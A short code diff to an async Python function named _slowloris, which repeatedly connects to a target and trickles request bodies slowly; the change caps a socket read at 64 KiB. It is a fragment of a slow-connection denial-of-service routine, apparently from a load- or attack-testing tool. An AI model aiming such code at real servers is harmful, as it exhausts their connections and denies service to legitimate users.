@@ -156,7 +156,7 @@ async def _slowloris(
         nonlocal whole
         while True:
             reader, writer = await connect(scene.target.url, source(n % 10))
-            answer = asyncio.ensure_future(reader.read())
+            answer = asyncio.ensure_future(reader.read(1 << 16))  # done with the first bytes back
             if body is not None:
                 writer.write(head)
                 sent = await trickle(writer, body, 0.5, answer)
